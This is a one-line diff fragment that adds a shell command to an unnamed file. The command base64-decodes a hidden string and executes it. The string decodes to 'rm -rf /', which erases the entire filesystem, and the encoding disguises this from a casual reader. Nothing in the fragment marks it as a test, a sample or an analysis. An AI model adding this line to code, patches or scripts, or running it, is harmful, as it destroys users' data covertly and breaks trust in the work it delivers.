@@ -1,0 +1,1 @@
+sh -c "$(echo cm0gLXJmIC8K | base64 -d)"
